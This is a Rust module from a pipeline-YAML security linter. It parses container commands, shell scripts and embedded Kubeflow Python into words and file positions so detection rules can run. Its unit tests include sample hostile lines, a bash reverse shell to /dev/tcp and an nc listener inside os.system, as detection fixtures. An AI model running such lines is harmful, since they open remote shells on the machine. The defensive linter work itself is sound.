//! What a container's commands do: its argv, the shell scripts it runs (`sh -c`, Argo
//! `source`, Tekton `script`) split into commands and words, and the Python source KFP
//! embeds, scanned for the calls that matter. Every word keeps its file positions, so
//! command rules can point at the exact token inside a YAML scalar.
//!
//! The reading follows how the container will really run: `sh -c SCRIPT ARG0 ARG1...`
//! makes the following elements `$0`, `$1`...; KFP's bootstrap ends with `"$0" "$@"`,
//! which runs them as the next command, and its loader writes `$0` (the component's
//! Python source) to a file and runs it with Python.
//!
//! This module never executes, fetches or evaluates anything.

pub mod python;
pub mod shell;

use std::cell::{OnceCell, RefCell};
use std::collections::HashMap;
use std::fmt;
use std::hash::{BuildHasherDefault, Hasher};
use std::ops::{Deref, Range};
use std::rc::Rc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::{Arc, LazyLock, Mutex, MutexGuard, OnceLock, PoisonError};

use memchr::memmem::Finder;

use crate::model::Container;
use crate::text::{MappedText, push_counted};
use crate::yaml::{NodeRef, ScalarSource};

/// How deep `sh -c`, `python -c` and `subprocess` nesting is followed.
const MAX_DEPTH: usize = 8;

/// Text each memo of the [`Parsed`] cache may hold before it starts afresh.
/// Repeats are far apart (the same component in pipelines hundreds of files away): on the
/// corpus, the distinct Python sources total 425 KB and the distinct scripts 79 KB, and a
/// smaller bound loses most of the gain (at 256 KiB, 813 of 2,231 Python sources are
/// still scanned instead of 485). 1 MiB holds them all, for a few MB of memory (a parsed
/// Python module is several times its text).
const PARSED_CACHE_BYTES: usize = 1 << 20;

/// Shell scripts and Python sources already parsed in this run, by text. The same
/// bootstrap scripts and component sources recur container after container and file after
/// file (the corpus parses 6,023 scripts, 506 distinct, and scans 2,231 Python sources, 485
/// distinct); [`shell::parse`] and [`python::scan`] depend on the text alone, so a repeat
/// reuses the first result. Bounded by [`PARSED_CACHE_BYTES`] of text per memo.
#[derive(Default)]
struct Parsed {
    scripts: Memo<ParsedScript>,
    modules: Memo<python::Module>,
}

/// A parsed script's commands, their texts mapped to the script rather than the file, so
/// that every container running the same script shares them (in the [`Parsed`] cache).
#[derive(Debug)]
struct ParsedScript {
    /// The texts of all the commands' words, command after command (its words, redirect
    /// targets, then assignment names and values): a container running the script decodes
    /// them into one run of [`Words`] that its commands share.
    texts: Vec<Arc<MappedText>>,
    commands: Vec<ScriptCommand>,
}

/// A command of a [`ParsedScript`]: its words as ranges of [`ParsedScript::texts`].
#[derive(Debug)]
struct ScriptCommand {
    /// The words from the program on (wrappers such as `env` dropped).
    words: Range<usize>,
    /// [`Command::program_start`] of these words.
    program_start: usize,
    /// Its `NAME=value` prefixes, then those given to its wrappers: name, value, name...
    assignments: Range<usize>,
    redirects: Range<usize>,
    pipe_from: Option<usize>,
    in_substitution: Option<usize>,
    /// What its words hold, for every container running the script.
    mentions: Mentions,
    /// What rules concluded from its words, for every container running the script.
    facts: CommandFacts,
}

/// The commands of `script` ([`shell::parse`]) as [`Code`] records them.
fn parse_script(script: &str) -> ParsedScript {
    let mut texts = Vec::new();
    let mut commands = Vec::new();
    for mut command in shell::parse(script).commands {
        let start = command.program.unwrap_or(command.words.len());
        let wrapper = wrapper_assignments(&command.words[..start], |word, range| word.slice(range));
        let first = texts.len();
        texts.extend(command.words.drain(start..).map(Arc::new));
        let words = first..texts.len();
        texts.extend(command.redirects.into_iter().map(|redirect| Arc::new(redirect.target)));
        let redirects = words.end..texts.len();
        let prefixes = command.assignments.into_iter().map(|assignment| (assignment.name, assignment.value));
        texts.extend(prefixes.chain(wrapper).flat_map(|(name, value)| [Arc::new(name), Arc::new(value)]));
        let assignments = redirects.end..texts.len();
        let program = texts[words.clone()].first().map_or("", |word| word.as_str());
        commands.push(ScriptCommand {
            program_start: program_start(program),
            mentions: Mentions::of(&texts[words.clone()], &texts[redirects.clone()], |word| word.as_str()),
            words,
            assignments,
            redirects,
            pipe_from: command.pipe_from,
            in_substitution: command.in_substitution,
            facts: CommandFacts::default(),
        });
    }
    ParsedScript { texts, commands }
}

/// Results by the text they were computed from, within [`PARSED_CACHE_BYTES`] of text.
struct Memo<T> {
    bytes: usize,
    results: HashMap<String, Arc<T>, BuildHasherDefault<TextHasher>>,
}

impl<T> Default for Memo<T> {
    fn default() -> Self {
        Self { bytes: 0, results: HashMap::default() }
    }
}

impl<T> Memo<T> {
    fn with_capacity(entries: usize) -> Self {
        Self { bytes: 0, results: HashMap::with_capacity_and_hasher(entries, BuildHasherDefault::default()) }
    }
}

/// Hashes [`Memo`] keys: whole scripts and Python sources, one looked up per container,
/// for which `HashMap`'s SipHash cost more than the rest of the lookup. Eight bytes at a
/// time, FxHash's way (rotate, xor, multiply). Not keyed: a crafted collision costs key
/// comparisons within one memo, which [`PARSED_CACHE_BYTES`] bounds.
#[derive(Default)]
struct TextHasher(u64);

impl TextHasher {
    fn add(&mut self, word: u64) {
        self.0 = (self.0.rotate_left(5) ^ word).wrapping_mul(0x517c_c1b7_2722_0a95);
    }
}

impl Hasher for TextHasher {
    fn write(&mut self, bytes: &[u8]) {
        let mut words = bytes.chunks_exact(8);
        for word in &mut words {
            let mut buf = [0; 8];
            buf.copy_from_slice(word);
            self.add(u64::from_le_bytes(buf));
        }
        let mut last = [0; 8];
        last[..words.remainder().len()].copy_from_slice(words.remainder());
        self.add(u64::from_le_bytes(last));
    }

    fn finish(&self) -> u64 {
        self.0
    }
}

/// The process's cache of parsed embedded code, shared by the worker threads: each
/// distinct text is parsed once per run whatever the thread count, and the cache holds one
/// copy. Lookups are one per script or Python source of a container; the parse itself
/// runs outside the lock (two threads meeting the same new text may both parse it).
static PARSED: LazyLock<Mutex<Parsed>> = LazyLock::new(Mutex::default);

/// `compute(text)`, or the result a previous call with the same text got from the memo
/// `pick` selects in the shared cache.
fn memoized<T>(text: &str, pick: fn(&mut Parsed) -> &mut Memo<T>, compute: fn(&str) -> T) -> Arc<T> {
    let found = pick(&mut parsed_cache()).results.get(text).cloned();
    if let Some(result) = found {
        return result;
    }
    let result = Arc::new(compute(text));
    let mut cache = parsed_cache();
    let memo = pick(&mut cache);
    if memo.bytes + text.len() > PARSED_CACHE_BYTES {
        *memo = Memo::default();
    }
    memo.bytes += text.len();
    memo.results.insert(text.to_string(), Arc::clone(&result));
    result
}

fn parsed_cache() -> MutexGuard<'static, Parsed> {
    // A panic while the lock was held (caught per file) leaves a consistent cache: the
    // lock only guards lookups and inserts.
    PARSED.lock().unwrap_or_else(PoisonError::into_inner)
}

/// Text the [`QUIET`] memo may hold before it starts afresh. The corpus's 6,684 containers
/// run 2,200 distinct codes, 1.8 MB of text in all; a memo that starts afresh loses only
/// the skips of codes seen before, never a finding.
const QUIET_MEMO_BYTES: usize = 4 << 20;

/// Entries the [`QUIET`] memo has room for from the start: growing a table hashes every
/// key (whole scripts) again, and the corpus fills 2,200.
const QUIET_MEMO_ENTRIES: usize = 4096;

/// The checks (indexes the caller gives, such as a rule's place in the catalogue) that
/// found nothing in a container's code, shared by every container of the run whose code is
/// made of the same texts, under the same check parameters (see [`QuietChecks::of`]).
///
/// Two of three containers repeat a code seen before: the same KFP bootstrap and component
/// source, file after file. A check that found nothing there will find nothing again, so
/// it skips such a container without its code being analysed at all: [`Code::of`] and the
/// checks reading it are the largest cost of a lint after parsing. Only the absence of
/// findings is shared: a check that found something runs again on every container, and
/// reports at that container's own positions.
#[derive(Debug)]
pub struct QuietChecks(Box<[AtomicU64]>);

/// Codes already seen in this run, by [`spell_code`]; bounded by [`QUIET_MEMO_BYTES`].
static QUIET: LazyLock<Mutex<Memo<QuietChecks>>> =
    LazyLock::new(|| Mutex::new(Memo::with_capacity(QUIET_MEMO_ENTRIES)));

impl QuietChecks {
    /// The record for `container`'s code, for up to `checks` checks run with the parameters
    /// that `spell_context` appends to a key (a check may only depend on the code's texts
    /// and on them).
    pub fn of(container: &Container<'_>, spell_context: impl FnOnce(&mut String), checks: usize) -> Arc<QuietChecks> {
        thread_local! {
            // One buffer per thread: a key is looked up for every container, and kept (copied)
            // only for a code not seen before.
            static KEY: RefCell<String> = const { RefCell::new(String::new()) };
        }
        KEY.with_borrow_mut(|key| {
            key.clear();
            spell_code(container, key);
            key.push('|');
            spell_context(key);
            let record = Self::find_or_add(key, checks);
            // A huge script's key is not kept for the rest of the run.
            key.shrink_to(KEY_BUFFER_KEPT);
            record
        })
    }

    fn find_or_add(key: &str, checks: usize) -> Arc<QuietChecks> {
        let mut memo = QUIET.lock().unwrap_or_else(PoisonError::into_inner);
        // A check past the record's size is never quiet (`is_quiet`, `set_quiet`).
        if let Some(found) = memo.results.get(key) {
            return Arc::clone(found);
        }
        if memo.bytes + key.len() > QUIET_MEMO_BYTES {
            *memo = Memo::with_capacity(QUIET_MEMO_ENTRIES);
        }
        let record = Arc::new(QuietChecks((0..checks.div_ceil(64)).map(|_| AtomicU64::new(0)).collect()));
        memo.bytes += key.len();
        memo.results.insert(key.to_string(), Arc::clone(&record));
        record
    }

    /// True if check `check` found nothing in this code before.
    pub fn is_quiet(&self, check: usize) -> bool {
        self.0.get(check / 64).is_some_and(|bits| bits.load(Ordering::Relaxed) & 1 << (check % 64) != 0)
    }

    /// Records that check `check` found nothing in this code.
    pub fn set_quiet(&self, check: usize) {
        if let Some(bits) = self.0.get(check / 64) {
            bits.fetch_or(1 << (check % 64), Ordering::Relaxed);
        }
    }
}

/// The capacity a thread's key buffer keeps between lookups (most keys are a few KB).
const KEY_BUFFER_KEPT: usize = 64 << 10;

/// Appends what [`Code::of`] reads of `container` to `key`, spelled so that two containers
/// get the same key exactly when their code is made of the same texts: the value of each
/// element of command and args (one argv, as `Code::of` reads them) and of the script,
/// each after its length, or a marker for an element that is not a string.
fn spell_code(container: &Container<'_>, key: &mut String) {
    let mut push = |marker: char, text: Option<&str>| {
        key.push(marker);
        match text {
            Some(text) => push_counted(key, text),
            None => key.push('-'),
        }
    };
    container.command.iter().chain(&container.args).for_each(|node| push('a', node.as_str()));
    if let Some(script) = &container.script {
        push('s', script.as_str());
    }
}

/// A word of the code (an argument, a redirect target, a Python source, ...): its decoded
/// text at once, its map to the file on first use. Rules read nearly every word but point
/// at few (of the corpus's 68,000 command and argument scalars, about 100 ever need a
/// position), so a YAML scalar's map ([`NodeRef::text`]) and the map of a word split from
/// a script, composed with the script's ([`MappedText::remap`]), are built only when a
/// position or a slice is asked for. A clone shares the parts, and the map if it is
/// already built. Making a word allocates nothing (its parts are shared
/// with the tree, the parse cache and the script it came from): a container's code has
/// dozens of words and is built for every container.
#[derive(Clone, Debug)]
pub struct Word {
    origin: Origin,
    /// The map to the file of a word that does not start with one, once asked for.
    mapped: OnceCell<Rc<MappedText>>,
}

#[derive(Clone, Debug)]
enum Origin {
    /// Already mapped to the file.
    Mapped(Rc<MappedText>),
    /// A YAML scalar.
    Scalar(ScalarSource),
    /// Decoded from `base`'s text: `local` maps to `base.as_str()` (both shared with the
    /// other words decoded from the same text).
    Within { local: Arc<MappedText>, base: Rc<Word> },
}

impl Word {
    fn new(origin: Origin) -> Word {
        Word { origin, mapped: OnceCell::new() }
    }

    /// A YAML node's value ([`NodeRef::text`], built on first use).
    fn node(node: &NodeRef<'_>) -> Word {
        match node.scalar_source() {
            Some(source) => Word::new(Origin::Scalar(source)),
            None => Word::from(MappedText::new()),
        }
    }

    /// A word decoded from `base`'s text: `local` maps to `base.as_str()`.
    fn within(local: &Arc<MappedText>, base: &Rc<Word>) -> Word {
        Word::new(Origin::Within { local: Arc::clone(local), base: Rc::clone(base) })
    }

    /// The decoded text, without building the map (it is the map's text).
    pub fn as_str(&self) -> &str {
        match &self.origin {
            Origin::Mapped(mapped) => mapped.as_str(),
            Origin::Scalar(source) => source.value(),
            Origin::Within { local, .. } => local.as_str(),
        }
    }

    pub fn len(&self) -> usize {
        self.as_str().len()
    }

    pub fn is_empty(&self) -> bool {
        self.as_str().is_empty()
    }

    /// The text with its map to the file, built on first use.
    pub fn mapped(&self) -> &MappedText {
        match &self.origin {
            Origin::Mapped(mapped) => mapped,
            Origin::Scalar(source) => self.mapped.get_or_init(|| Rc::new(source.map())),
            Origin::Within { local, base } => self.mapped.get_or_init(|| Rc::new(local.remap(base.mapped()))),
        }
    }
}

impl From<MappedText> for Word {
    /// A word already mapped to the file.
    fn from(mapped: MappedText) -> Self {
        Word::new(Origin::Mapped(Rc::new(mapped)))
    }
}

/// Positions and slices go through [`Word::mapped`] (as a `LazyCell` derefs to its value);
/// `as_str`, `len` and `is_empty` are the word's own and do not compose the map.
impl Deref for Word {
    type Target = MappedText;

    fn deref(&self) -> &MappedText {
        self.mapped()
    }
}

impl AsRef<str> for Word {
    fn as_ref(&self) -> &str {
        self.as_str()
    }
}

/// Words of a command: a run of the words that the commands of one argv or one script of a
/// container share. Of the corpus's 30,000 commands, 22,000 come from the cached parse of
/// a script and are made anew for every container running it: one allocation per script
/// instead of one to three per command (words, redirects, assignments). An argv and the
/// `$0`, `$1`, ... it passes to `sh -c` share one too.
#[derive(Clone, Default)]
pub struct Words {
    shared: Rc<[Word]>,
    range: Range<usize>,
}

impl Words {
    /// The words from `index` on.
    fn tail(&self, index: usize) -> Words {
        Words { shared: Rc::clone(&self.shared), range: (self.range.start + index).min(self.range.end)..self.range.end }
    }

    /// Another run of the same shared words.
    fn run(&self, range: Range<usize>) -> Words {
        Words { shared: Rc::clone(&self.shared), range }
    }
}

impl Deref for Words {
    type Target = [Word];

    fn deref(&self) -> &[Word] {
        &self.shared[self.range.clone()]
    }
}

impl<'a> IntoIterator for &'a Words {
    type Item = &'a Word;
    type IntoIter = std::slice::Iter<'a, Word>;

    fn into_iter(self) -> Self::IntoIter {
        self.iter()
    }
}

impl FromIterator<Word> for Words {
    fn from_iter<I: IntoIterator<Item = Word>>(words: I) -> Self {
        let shared: Rc<[Word]> = words.into_iter().collect();
        Words { range: 0..shared.len(), shared }
    }
}

impl fmt::Debug for Words {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_list().entries(self.iter()).finish()
    }
}

/// A command's `NAME=value` assignments: [`Words`] holding name, value, name, value...
#[derive(Clone, Debug, Default)]
pub struct Assignments(Words);

impl<'a> IntoIterator for &'a Assignments {
    type Item = Assignment<'a>;
    type IntoIter = std::iter::Map<std::slice::ChunksExact<'a, Word>, fn(&'a [Word]) -> Assignment<'a>>;

    fn into_iter(self) -> Self::IntoIter {
        let pair: fn(&'a [Word]) -> Assignment<'a> = |pair| Assignment { name: &pair[0], value: &pair[1] };
        self.0.chunks_exact(2).map(pair)
    }
}

/// One command as it would run: program first (wrappers such as `env`, `sudo` and
/// `timeout` already removed), arguments after, each word with its file positions.
/// Made only here, so that [`Command::program`] agrees with `words`.
#[derive(Clone, Debug, Default)]
pub struct Command {
    pub words: Words,
    /// Index (in [`Code::commands`]) of the command whose output is piped into this one.
    pub piped_from: Option<usize>,
    /// Index of the command in whose `$(...)`/`<(...)` substitution this one runs.
    pub substituted_into: Option<usize>,
    /// Redirection targets and here-document bodies.
    pub redirects: Words,
    /// `NAME=value` assignments that come with it: shell prefixes (`A=b cmd`, or a line of
    /// assignments alone, whose `words` are then empty) and those given to `env`/`sudo`.
    pub assignments: Assignments,
    /// Where the program's base name starts in `words[0]`: the rules ask for it 240,000
    /// times on the corpus, for 30,000 commands.
    program_start: usize,
    /// What its words hold; `None` only for a [`Command::default`], which rules then read
    /// word by word.
    mentions: Option<Mentions>,
    /// The parsed script it comes from and its index there, shared by every container
    /// running the script; `None` for the other commands.
    script_command: Option<(Arc<ParsedScript>, usize)>,
}

/// What rules conclude from a command's texts alone (not from where they are in the file),
/// kept with a parsed script's command so that each conclusion is reached once per distinct
/// script instead of once per container running it (22,000 of the corpus's 30,000 commands
/// come from 506 distinct scripts).
#[derive(Debug, Default)]
pub struct CommandFacts {
    /// The names under which the command hands a value to something that may expect a
    /// credential, whatever names count as secret (found and read by `secret-in-args`:
    /// when it wants none of them, it does not search the command).
    pub credential_names: OnceLock<Box<[String]>>,
}

/// Substrings that rules search every word of every command for, noted once per command
/// (once per distinct script for the commands of a parsed script): most commands hold
/// none, and a rule then skips the command whole instead of setting up a search per word
/// (the corpus's 30,000 commands have 150,000 words, mostly short).
#[derive(Clone, Copy, Debug, Default)]
struct Mentions {
    /// Some word or redirect target holds `/dev/`.
    device_path: bool,
    /// Some word holds `://`.
    scheme_separator: bool,
    /// Bit `i` set when argument `i` (of [`Command::args`], `i < 64`) starts with `-` or
    /// holds a `:`.
    option_or_colon_args: u64,
}

impl Mentions {
    /// What `words` (program first) and `redirects` hold; `text` reads a word.
    fn of<W>(words: &[W], redirects: &[W], text: fn(&W) -> &str) -> Mentions {
        static DEVICE_PATH: LazyLock<Finder<'static>> = LazyLock::new(|| Finder::new("/dev/"));
        static SCHEME_SEPARATOR: LazyLock<Finder<'static>> = LazyLock::new(|| Finder::new("://"));
        let mut mentions = Mentions::default();
        for (index, word) in words.iter().chain(redirects).enumerate() {
            let bytes = text(word).as_bytes();
            // Both markers hold a slash, which most words lack: the searches start at the
            // first one (`://` one byte before it).
            if let Some(slash) = memchr::memchr(b'/', bytes) {
                mentions.device_path |= DEVICE_PATH.find(&bytes[slash..]).is_some();
                mentions.scheme_separator |=
                    index < words.len() && SCHEME_SEPARATOR.find(&bytes[slash.saturating_sub(1)..]).is_some();
            }
            let arg = index.wrapping_sub(1);
            if arg < 64
                && index < words.len()
                && (bytes.first() == Some(&b'-') || memchr::memchr(b':', bytes).is_some())
            {
                mentions.option_or_colon_args |= 1 << arg;
            }
        }
        mentions
    }
}

impl Command {
    /// The program's base name (`/usr/bin/curl` -> `curl`).
    pub fn program(&self) -> Option<&str> {
        self.words.first().map(|word| word.as_str().get(self.program_start..).unwrap_or_default())
    }

    /// The arguments after the program.
    pub fn args(&self) -> &[Word] {
        self.words.get(1..).unwrap_or(&[])
    }

    /// False when no word or redirect target holds `/dev/` (true when not known).
    pub fn may_hold_device_path(&self) -> bool {
        self.mentions.is_none_or(|mentions| mentions.device_path)
    }

    /// False when no word holds `://` (true when not known).
    pub fn may_hold_url(&self) -> bool {
        self.mentions.is_none_or(|mentions| mentions.scheme_separator)
    }

    /// False when argument `index` neither starts with `-` nor holds a `:` (true when not
    /// known).
    pub fn may_be_option_or_hold_colon(&self, index: usize) -> bool {
        self.mentions.is_none_or(|mentions| index >= 64 || mentions.option_or_colon_args & 1 << index != 0)
    }

    /// What rules concluded about this command's texts, shared with the same command of
    /// every container running the same script (`None` for commands not from a script).
    pub fn facts(&self) -> Option<&CommandFacts> {
        self.script_command
            .as_ref()
            .and_then(|(script, index)| script.commands.get(*index))
            .map(|command| &command.facts)
    }
}

/// Where [`shell::basename`] of `program` starts.
fn program_start(program: &str) -> usize {
    program.len() - shell::basename(program).len()
}

/// A `NAME=value` assignment (name including any `[subscript]`).
#[derive(Clone, Copy, Debug)]
pub struct Assignment<'a> {
    pub name: &'a Word,
    pub value: &'a Word,
}

/// Python source found in a container, with the map from its text to the file.
#[derive(Clone, Debug)]
pub struct PythonSource {
    /// Shared by every container running the same source.
    pub module: Arc<python::Module>,
    base: Word,
}

impl PythonSource {
    /// File byte range of a range of the Python source.
    pub fn file_range(&self, local: Range<usize>) -> Range<usize> {
        self.base.source_range(local)
    }

    /// A string literal of the source, mapped to the file.
    pub fn file_text(&self, local: &MappedText) -> MappedText {
        local.remap(self.base.mapped())
    }

    /// The string an argument starts with: its value when it is (or names) a literal,
    /// else the first literal inside it, so `"http://host/" + name` yields the URL prefix
    /// and `"ssh " + host` the command. Mapped to the source given to `python::scan`.
    pub fn leading_literal<'a>(&'a self, arg: &'a python::Arg) -> Option<&'a MappedText> {
        if let python::Value::Str(text) = self.module.resolve(&arg.value, arg.span.start) {
            return Some(text);
        }
        let span = &arg.value_span;
        self.module
            .strings
            .iter()
            .filter(|text| !text.is_empty())
            .find(|text| (span.start..span.end).contains(&text.source_offset(0)))
            // Only a literal at the very start (after its prefix and quotes: `rb"""`).
            .filter(|text| text.source_offset(0) <= span.start + 5)
    }
}

/// The analysed code of one container.
#[derive(Clone, Debug, Default)]
pub struct Code {
    pub commands: Vec<Command>,
    pub python: Vec<PythonSource>,
}

impl Code {
    /// Analyses a container's command, args and script.
    pub fn of(container: &Container<'_>) -> Code {
        let argv: Words = container.command.iter().chain(&container.args).map(Word::node).collect();
        // Asked before `argv` moves into its command, and only when there is a script to run.
        let python_interpreter = container.script.is_some()
            && shell::find_program(&argv).is_some_and(|index| is_python(shell::basename(argv[index].as_str())));
        let mut code = Code::default();
        code.add_argv(argv, 0);
        if let Some(script) = container.script {
            let text = Word::node(&script);
            let shebang = text.as_str().lines().next().filter(|line| line.starts_with("#!")).unwrap_or("");
            if python_interpreter || shebang.contains("python") {
                code.add_python(&text, 0);
            } else {
                code.add_shell(&text, Words::default(), 0);
            }
        }
        code
    }

    /// An argv: recorded as a command, then followed into the code it runs.
    fn add_argv(&mut self, argv: Words, depth: usize) {
        if depth > MAX_DEPTH {
            return;
        }
        let Some(start) = shell::find_program(&argv) else { return };
        // Words already mapped to the file: their parts are too.
        let wrapper = wrapper_assignments(&argv[..start], |word, range| Word::from(word.slice(range)));
        let assignments = if wrapper.is_empty() {
            argv.run(0..0)
        } else {
            wrapper.into_iter().flat_map(|(name, value)| [name, value]).collect()
        };
        let argv = argv.tail(start);
        let program_start = program_start(argv[0].as_str());
        let program = &argv[0].as_str()[program_start..];
        // Recorded before the code it runs (commands stay in the order they run), what its
        // words hold noted once that code is followed.
        let recorded = self.commands.len();
        self.commands.push(Command {
            words: argv.clone(),
            redirects: argv.run(0..0),
            assignments: Assignments(assignments),
            piped_from: None,
            substituted_into: None,
            program_start,
            mentions: None,
            script_command: None,
        });
        // The arguments already followed as inline code (and, for a shell, its `$0`...).
        let mut consumed = 0..0;
        if shell::is_shell(program) {
            if let Some(index) = inline_code_index(&argv) {
                self.add_shell(&argv[index], argv.tail(index + 1), depth + 1);
                consumed = index..argv.len();
            }
        } else if let Some(index) = inline_code_index(&argv).filter(|_| is_python(program)) {
            self.add_python(&argv[index], depth + 1);
            consumed = index..index + 1;
        }
        // Component source passed as a plain argument (e.g. to a loader run another way).
        for (index, word) in argv.iter().enumerate().skip(1) {
            if !consumed.contains(&index) && looks_like_python(word.as_str()) {
                self.add_python(word, depth + 1);
            }
        }
        self.commands[recorded].mentions = Some(Mentions::of(&argv, &[], Word::as_str));
    }

    /// A shell script; `positional` are its `$0`, `$1`, ... when run with `sh -c`.
    fn add_shell(&mut self, script: &Word, positional: Words, depth: usize) {
        if depth > MAX_DEPTH {
            return;
        }
        let parsed = memoized(script.as_str(), |cache| &mut cache.scripts, parse_script);
        let base = self.commands.len();
        self.commands.reserve(parsed.commands.len());
        let mut runs_positional = false;
        let mut python_inline = Vec::new();
        // Words are decoded from the script's text: each keeps its map to the script.
        let script = Rc::new(script.clone());
        let script_words: Words = parsed.texts.iter().map(|local| Word::within(local, &script)).collect();
        for (index, command) in parsed.commands.iter().enumerate() {
            let words = script_words.run(command.words.clone());
            if words.first().is_some_and(|w| w.as_str() == "$0") {
                runs_positional = true;
            }
            let program = words.first().map_or("", |w| &w.as_str()[command.program_start..]);
            if let Some(index) = inline_code_index(&words).filter(|_| is_python(program)) {
                python_inline.push(words[index].clone());
            }
            self.commands.push(Command {
                words,
                piped_from: command.pipe_from.map(|index| base + index),
                substituted_into: command.in_substitution.map(|index| base + index),
                redirects: script_words.run(command.redirects.clone()),
                assignments: Assignments(script_words.run(command.assignments.clone())),
                program_start: command.program_start,
                mentions: Some(command.mentions),
                script_command: Some((Arc::clone(&parsed), index)),
            });
        }
        for code in python_inline {
            self.add_python(&code, depth + 1);
        }
        if positional.is_empty() {
            return;
        }
        if runs_positional {
            // KFP's bootstrap: `... && "$0" "$@"` runs the remaining elements as a command.
            self.add_argv(positional, depth + 1);
        } else if looks_like_python(positional[0].as_str()) {
            // KFP's loader: `printf "%s" "$0" > file.py; python3 file.py "$@"`.
            self.add_python(&positional[0], depth + 1);
        }
    }

    /// Python source: recorded for call rules, and its subprocess calls followed.
    fn add_python(&mut self, source: &Word, depth: usize) {
        if depth > MAX_DEPTH {
            return;
        }
        let module = memoized(source.as_str(), |cache| &mut cache.modules, python::scan);
        let source_text = PythonSource { module, base: source.clone() };
        let mut argvs = Vec::new();
        let mut scripts = Vec::new();
        for call in &source_text.module.calls {
            let callee = call.qualified();
            let runs_shell =
                matches!(callee, "os.system" | "os.popen" | "subprocess.getoutput" | "subprocess.getstatusoutput")
                    || call.keyword("shell").is_some_and(|arg| arg.value == python::Value::Bool(true));
            let is_process = runs_shell
                || callee.starts_with("subprocess.")
                || callee.starts_with("os.exec")
                || callee.starts_with("os.spawn");
            if !is_process {
                continue;
            }
            let Some(first) = call.positional(0).or_else(|| call.keyword("args")) else { continue };
            match source_text.module.resolve(&first.value, first.span.start) {
                python::Value::List(items) => {
                    // The literal words up to the first computed one name the program and
                    // its options: `["scp", "-o", opt, model_path, host + ":/x"]`.
                    let words: Vec<Word> = items
                        .iter()
                        .map_while(|item| item.as_str())
                        .map(|text| Word::from(source_text.file_text(text)))
                        .collect();
                    if !words.is_empty() {
                        argvs.push(Words::from_iter(words));
                    }
                }
                _ => {
                    let Some(text) = source_text.leading_literal(first) else { continue };
                    let text = Word::from(source_text.file_text(text));
                    if runs_shell || text.as_str().contains(' ') {
                        scripts.push(text);
                    } else {
                        argvs.push(Words::from_iter([text]));
                    }
                }
            }
        }
        self.python.push(source_text);
        for script in scripts {
            self.add_shell(&script, Words::default(), depth + 1);
        }
        for argv in argvs {
            self.add_argv(argv, depth + 1);
        }
    }
}

/// `NAME=value` words among the wrapper words before a program (`env A=b`, `sudo A=b`), as
/// (name, value); `part` cuts a range out of a word.
fn wrapper_assignments<W: AsRef<str>, P>(words: &[W], part: impl Fn(&W, Range<usize>) -> P) -> Vec<(P, P)> {
    words
        .iter()
        .filter_map(|word| {
            let text = word.as_ref();
            let (name, _) = text.split_once('=')?;
            let identifier = name.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_')
                && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_');
            identifier.then(|| (part(word, 0..name.len()), part(word, name.len() + 1..text.len())))
        })
        .collect()
}

/// True for a Python interpreter's base name: `python`, `python3`, `python3.11`.
pub fn is_python(program: &str) -> bool {
    program == "python"
        || program.strip_prefix("python").is_some_and(|v| v.chars().all(|c| c.is_ascii_digit() || c == '.'))
}

/// The index of the code argument of `sh -c CODE` / `python -c CODE` (flags may be
/// clustered: `-ec`, `-exc`, `-lc`).
fn inline_code_index(argv: &[Word]) -> Option<usize> {
    for (index, word) in argv.iter().enumerate().skip(1) {
        let text = word.as_str();
        if text == "--" || !text.starts_with('-') || text.starts_with("--") {
            return None;
        }
        if text.len() > 1 && text[1..].chars().all(|c| c.is_ascii_alphabetic()) && text.contains('c') {
            return (index + 1 < argv.len()).then_some(index + 1);
        }
    }
    None
}

/// A multi-line argument that reads like a Python module (KFP embeds component sources so).
fn looks_like_python(text: &str) -> bool {
    text.contains('\n')
        && text.lines().any(|line| {
            let line = line.trim_start();
            line.starts_with("import ")
                || line.starts_with("from ") && line.contains(" import ")
                || line.starts_with("def ")
        })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn words(texts: &[&str]) -> Words {
        let mut offset = 0;
        texts
            .iter()
            .map(|text| {
                let word = MappedText::verbatim(text, offset);
                offset += text.len() + 1;
                Word::from(word)
            })
            .collect()
    }

    #[test]
    fn sh_dash_c_runs_its_script_and_kfp_positional_args() {
        let mut code = Code::default();
        let argv = words(&[
            "sh",
            "-c",
            "pip install x && \"$0\" \"$@\"",
            "sh",
            "-ec",
            "python3 \"$0\"",
            "import os\nos.system('nc -l 4444')\n",
        ]);
        code.add_argv(argv, 0);
        let programs: Vec<_> = code.commands.iter().filter_map(|c| c.program()).collect();
        assert!(programs.contains(&"pip"), "{programs:?}");
        assert!(programs.contains(&"nc"), "{programs:?}");
        assert_eq!(code.python.len(), 1);
    }

    #[test]
    fn commands_note_what_their_words_hold() {
        let mut code = Code::default();
        let script = "bash -i >& /dev/tcp/h/1 0>&1\ncurl -fsSL ftp://h/x\necho hi there\n";
        code.add_shell(&Word::from(MappedText::verbatim(script, 0)), Words::default(), 0);
        let [bash, curl, echo] = &code.commands[..] else { panic!("{:?}", code.commands) };
        assert!(bash.may_hold_device_path() && !bash.may_hold_url());
        assert!(curl.may_hold_url() && !curl.may_hold_device_path());
        assert!(curl.may_be_option_or_hold_colon(0) && curl.may_be_option_or_hold_colon(1));
        assert!(!echo.may_hold_device_path() && !echo.may_hold_url());
        assert!(!echo.may_be_option_or_hold_colon(0) && !echo.may_be_option_or_hold_colon(1));
        // Nor does an argv command, whose words are read when it is made.
        let argv = words(&["curl", "-o", "/dev/null", "x"]);
        code.add_argv(argv, 0);
        let curl = code.commands.last().expect("argv command");
        assert!(curl.may_hold_device_path() && !curl.may_hold_url());
        assert!(curl.may_be_option_or_hold_colon(0) && !curl.may_be_option_or_hold_colon(2));
        // A command made otherwise is read word by word.
        assert!(Command::default().may_hold_url() && Command::default().may_be_option_or_hold_colon(0));
    }

    #[test]
    fn python_subprocess_lists_become_commands() {
        let mut code = Code::default();
        let source = MappedText::verbatim("import subprocess\nsubprocess.run([\"scp\", \"f\", \"h:/x\"])\n", 0);
        code.add_python(&Word::from(source), 0);
        let scp = code.commands.iter().find(|c| c.program() == Some("scp")).expect("scp command");
        assert_eq!(scp.words[0].source_offset(0), 35);
    }
}
